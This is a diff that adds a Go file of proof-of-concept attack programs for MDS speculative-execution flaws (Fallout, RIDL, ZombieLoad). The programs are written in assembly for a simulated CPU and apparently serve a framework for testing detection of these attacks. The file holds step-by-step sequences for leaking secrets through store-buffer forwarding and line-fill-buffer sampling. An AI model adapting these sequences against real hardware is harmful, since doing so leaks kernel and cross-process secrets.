@@ -1,0 +1,166 @@
+package attacks
+
+import (
+	"fmt"
+
+	"specasan/internal/asm"
+	"specasan/internal/cpu"
+)
+
+// mdsSetup is shared by the MDS PoCs: plant the secret, register the
+// "kernel" page as an assist (permission-faulting) region, and install the
+// fault handler so the attack loop survives the architectural fault —
+// exactly how real MDS exploits handle the signal.
+func mdsSetup(prog *asm.Program) func(m *cpu.Machine) {
+	handler := prog.Label("handler")
+	return func(m *cpu.Machine) {
+		setupCommon(m)
+		m.Core(0).SetAssistRegion(KernelAddr, KernelAddr+KernelSize)
+		m.Core(0).FaultHandler = handler
+	}
+}
+
+// Fallout builds the store-buffer (write-transient-forwarding) PoC: the
+// baseline store queue forwards on a page-offset match before full
+// addresses are compared, so an attacker load whose address aliases a
+// victim store's offset transiently receives the victim's store data.
+func Fallout() *Attack {
+	build := func() (*Scenario, error) {
+		prog, err := asm.Assemble(expand(`
+_start:
+    ADR  X22, probe
+    MOV  X26, #@SECRET@
+    LDG  X26, [X26]        // victim's valid secret pointer
+    LDR  X5, [X26]         // warm the secret line (committed victim access)
+    DSB                    // warm completes before the window opens
+    ADR  X9, blockslot
+    LDR  X1, [X9]          // cold miss: blocks commit, widens the window
+    LDR  X5, [X26]         // victim re-reads its secret (L1 hit)
+    ADR  X2, vslot
+    STR  X5, [X2]          // victim store: sits in the SQ behind the blocker
+    ADR  X3, aslot         // aslot aliases vslot in the low 12 bits
+    EOR  X4, X5, X5        // always zero, but orders the aliased load just
+    ORR  X3, X3, X4        // after the victim store resolves in the SQ
+    LDR  X4, [X3]          // WTF: partial-match forward of the secret
+    MOV  X5, X4
+@TRANSMIT@
+    SVC  #0
+handler:
+    BTI
+    SVC  #0
+
+    .org 0x140000
+blockslot:
+    .word 0
+    .org 0x150100
+vslot:
+    .word 0
+    .org 0x152100
+aslot:
+    .word 1111
+@DATA@
+`, map[string]string{
+			"SECRET":   fmt.Sprint(SecretAddr),
+			"TRANSMIT": transmitSeq,
+			"DATA":     pocDataSection,
+		}))
+		if err != nil {
+			return nil, err
+		}
+		return &Scenario{Prog: prog, Setup: mdsSetup(prog)}, nil
+	}
+	return &Attack{
+		Name:  "Fallout",
+		Class: "MDS",
+		Variants: []Variant{
+			{Name: "wtf-partial-match", Build: build},
+		},
+	}
+}
+
+// ridlBody is the in-flight sampling core shared by RIDL and ZombieLoad:
+// with the victim's secret line in flight in the LFB, an assisted load to an
+// inaccessible kernel address transiently receives the in-flight bytes, and
+// dependents transmit them before the fault retires.
+const ridlBody = `
+    MOV  X0, #@KERNEL@
+    EOR  X1, X1, X1        // short delay chain: the assisted load must
+    ORR  X0, X0, X1        // issue after the victim's fill is in flight
+    ORR  X0, X0, X1
+    LDR  X4, [X0]          // assisted load: samples the in-flight LFB line
+    MOV  X5, X4
+@TRANSMIT@
+    SVC  #0
+handler:
+    BTI
+    SVC  #0
+`
+
+// RIDL builds the rogue in-flight data load PoC: the victim's ordinary
+// cache-missing load leaves its line in transit in the LFB while the
+// attacker's faulting load samples it.
+func RIDL() *Attack {
+	build := func() (*Scenario, error) {
+		prog, err := asm.Assemble(expand(`
+_start:
+    ADR  X22, probe
+    MOV  X26, #@SECRET@
+    LDG  X26, [X26]        // victim's valid secret pointer
+    LDR  X5, [X26]         // victim load: cold miss, secret line in the LFB
+`+ridlBody+`
+@DATA@
+`, map[string]string{
+			"SECRET":   fmt.Sprint(SecretAddr),
+			"KERNEL":   fmt.Sprint(KernelAddr),
+			"TRANSMIT": transmitSeq,
+			"DATA":     pocDataSection,
+		}))
+		if err != nil {
+			return nil, err
+		}
+		return &Scenario{Prog: prog, Setup: mdsSetup(prog)}, nil
+	}
+	return &Attack{
+		Name:  "RIDL",
+		Class: "MDS",
+		Variants: []Variant{
+			{Name: "lfb-inflight-sample", Build: build},
+		},
+	}
+}
+
+// ZombieLoad builds the flush-triggered variant: the victim's line is
+// flushed and immediately re-fetched, and the refill in flight is sampled by
+// the attacker's assisted load.
+func ZombieLoad() *Attack {
+	build := func() (*Scenario, error) {
+		prog, err := asm.Assemble(expand(`
+_start:
+    ADR  X22, probe
+    MOV  X26, #@SECRET@
+    LDG  X26, [X26]
+    LDR  X5, [X26]         // warm (first miss commits)
+    DC   CIVAC, X26        // flush the secret line
+    DSB                    // order the flush before the refill
+    LDR  X5, [X26]         // refill: secret line in flight again
+`+ridlBody+`
+@DATA@
+`, map[string]string{
+			"SECRET":   fmt.Sprint(SecretAddr),
+			"KERNEL":   fmt.Sprint(KernelAddr),
+			"TRANSMIT": transmitSeq,
+			"DATA":     pocDataSection,
+		}))
+		if err != nil {
+			return nil, err
+		}
+		return &Scenario{Prog: prog, Setup: mdsSetup(prog)}, nil
+	}
+	return &Attack{
+		Name:  "ZombieLoad",
+		Class: "MDS",
+		Variants: []Variant{
+			{Name: "flush-refill-sample", Build: build},
+		},
+	}
+}
